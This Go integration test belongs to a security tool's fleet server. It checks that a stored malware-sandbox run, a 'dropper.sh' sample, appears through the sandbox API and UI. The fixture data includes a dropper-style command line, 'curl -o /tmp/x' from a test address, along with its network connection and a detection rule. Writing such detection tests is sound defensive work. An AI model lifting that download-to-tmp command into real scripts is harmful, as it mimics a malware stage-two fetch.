package main

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/quarry-sec/quarry/fleet/agent"
	"github.com/quarry-sec/quarry/sandbox"
	"github.com/quarry-sec/quarry/telemetry"
	"github.com/quarry-sec/quarry/telemetry/eventstore"
	"github.com/quarry-sec/quarry/telemetry/host"
)

// TestUpSandboxRunReachesFleet: a sandbox run stored in the agent's data
// directory (as quarry detonate stores it: the run, its report and its
// events) reaches the fleet through the detection pack's
// quarry_sandbox_runs query: /api/v1/sandbox/runs lists it and
// /api/v1/sandbox/runs/{host}/{run} gives its tree (with each process's
// activity from the host's store), files, network and rules; the UI shows
// its page, though the run started ten days ago. One pack "second" is
// 100 ms.
func TestUpSandboxRunReachesFleet(t *testing.T) {
	const unit = 100 * time.Millisecond
	dir := t.TempDir()
	f, _ := startUpTuned(t, dir, func(c *agent.Config) {
		c.ScheduleUnit = unit
		c.LogInterval = 200 * time.Millisecond
	})
	ctx := context.Background()

	// The run, stored as a detonation stores it.
	st, err := eventstore.Open(eventstore.Path(dir))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	ident := host.Identifier()
	// The run is ten days old (an imported report of an old run): the pack
	// query selects runs by when the host stored them, not by their start.
	start := time.Now().UTC().AddDate(0, 0, -10).Truncate(time.Second)
	const runID = "7b0c1d2e-0000-4000-8000-000000000001"
	sh := telemetry.NewEvent(telemetry.KindExec, telemetry.SourceSandbox)
	sh.Host, sh.Time, sh.StartTime, sh.PID, sh.PPID, sh.Path, sh.Cmdline, sh.RunID = ident, start, start, 4000, 3999, "/bin/sh", "sh /tmp/sample", runID
	curl := telemetry.NewEvent(telemetry.KindExec, telemetry.SourceSandbox)
	curl.Host, curl.Time, curl.StartTime, curl.PID, curl.PPID, curl.Path, curl.Cmdline, curl.RunID = ident, start.Add(time.Second),
		start.Add(time.Second), 4001, 4000, "/usr/bin/curl", "curl -o /tmp/x http://198.18.0.1/x", runID
	conn := telemetry.NewEvent(telemetry.KindOther, telemetry.SourceSandbox)
	conn.Host, conn.Time, conn.StartTime, conn.PID, conn.Path, conn.Category, conn.RunID = ident, start.Add(2*time.Second),
		curl.StartTime, 4001, "/usr/bin/curl", "network_connection", runID
	conn.Fields = telemetry.FieldsFromMap(map[string]string{"Initiated": "true", "Action": "connect", "DestinationIp": "198.18.0.1", "DestinationPort": "80"})
	if _, err := st.Append(ctx, []telemetry.Event{sh, curl, conn}); err != nil {
		t.Fatal(err)
	}
	keys := map[int64]string{}
	if err := st.Scan(ctx, eventstore.Filter{RunIDs: []string{runID}}, func(e *eventstore.StoredEvent) bool {
		if e.Kind == telemetry.KindExec {
			keys[e.PID] = e.ProcessKey
		}
		return true
	}); err != nil {
		t.Fatal(err)
	}
	rep := sandbox.Report{RunID: runID, Sample: "dropper.sh", Started: start, Verdict: "malicious", Score: 8.5,
		SandboxReport: telemetry.SandboxReport{
			Tree: []*sandbox.Node{{PID: 4000, PPID: 3999, Time: start, Path: "/bin/sh", Cmdline: "sh /tmp/sample", Key: keys[4000],
				Children: []*sandbox.Node{{PID: 4001, PPID: 4000, Time: start.Add(time.Second), Path: "/usr/bin/curl",
					Cmdline: "curl -o /tmp/x http://198.18.0.1/x", Techniques: []string{"T1105"}, Key: keys[4001]}}}},
			Files:   []sandbox.FileActivity{{Path: "/tmp/x", Actions: []string{"write"}, Process: "/usr/bin/curl", SHA256: strings.Repeat("c", 64), Size: 3}},
			Network: []sandbox.Destination{{Kind: "connect", Dest: "198.18.0.1:80", Process: "/usr/bin/curl"}},
			Rules: []sandbox.RuleFired{{ID: "r1", Title: "Download with curl to tmp", Source: "builtin", Author: "Quarry",
				Severity: "high", Description: "Curl writes a file to /tmp", Recommendations: "Block 198.18.0.1", Techniques: []string{"T1105"}, Hits: 1}},
		},
	}
	report, err := json.Marshal(rep)
	if err != nil {
		t.Fatal(err)
	}
	if err := st.PutSandboxRun(ctx, telemetry.SandboxRun{ID: runID, Origin: "detonate", Host: ident, Sample: "dropper.sh",
		SHA256: strings.Repeat("a", 64), Size: 120, Started: start, Duration: 3 * time.Second, Verdict: "malicious", Score: 8.5,
		Techniques: []string{"T1105"}, Tactics: []string{"TA0011"}, Report: report}); err != nil {
		t.Fatal(err)
	}

	// Within two of the query's intervals (60 "seconds").
	deadline := time.Now().Add(2 * 60 * unit)
	var list struct {
		Total int `json:"total"`
		Runs  []struct {
			RunID          string `json:"run_id"`
			HostIdentifier string `json:"host_identifier"`
			Verdict        string `json:"verdict"`
		} `json:"runs"`
	}
	for {
		err := f.client.Do(ctx, http.MethodGet, "/api/v1/sandbox/runs?verdict=malicious&technique=T1105", nil, &list)
		if err == nil && list.Total == 1 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("run not in /api/v1/sandbox/runs by the deadline: %+v %v", list, err)
		}
		time.Sleep(100 * time.Millisecond)
	}
	if r := list.Runs[0]; r.RunID != runID || r.HostIdentifier != ident {
		t.Fatalf("listed run %+v", r)
	}
	var run struct {
		Sample string `json:"sample"`
		Tree   []struct {
			ProcessKey string   `json:"process_key"`
			ParentKey  string   `json:"parent_key"`
			Path       string   `json:"path"`
			Techniques []string `json:"techniques"`
			Severity   string   `json:"severity"`
			Activity   string   `json:"activity"`
		} `json:"tree"`
		Files   []telemetry.SandboxFile        `json:"files"`
		Network []telemetry.SandboxDestination `json:"network"`
		Rules   []telemetry.SandboxRule        `json:"rules"`
	}
	if err := f.client.Do(ctx, http.MethodGet, "/api/v1/sandbox/runs/"+url.PathEscape(ident)+"/"+runID, nil, &run); err != nil {
		t.Fatal(err)
	}
	if run.Sample != "dropper.sh" || len(run.Tree) != 2 || run.Tree[0].ProcessKey != keys[4000] || run.Tree[1].ParentKey != keys[4000] ||
		fmt.Sprint(run.Tree[1].Techniques) != "[T1105]" || run.Tree[1].Severity != "high" ||
		!strings.Contains(run.Tree[1].Activity, "198.18.0.1") ||
		len(run.Files) != 1 || run.Files[0].SHA256 != strings.Repeat("c", 64) || len(run.Network) != 1 ||
		len(run.Rules) != 1 || run.Rules[0].Recommendations != "Block 198.18.0.1" {
		t.Errorf("run from the fleet: %+v", run)
	}
	page := uiSession(t, f)
	list2 := page("/sandbox")
	body := page("/sandbox/" + url.PathEscape(ident) + "/" + runID)
	if !strings.Contains(list2, "dropper.sh") || !strings.Contains(body, "Download with curl to tmp") || !strings.Contains(body, "T1105") {
		t.Errorf("UI: the list or the run page lacks the run")
	}
}
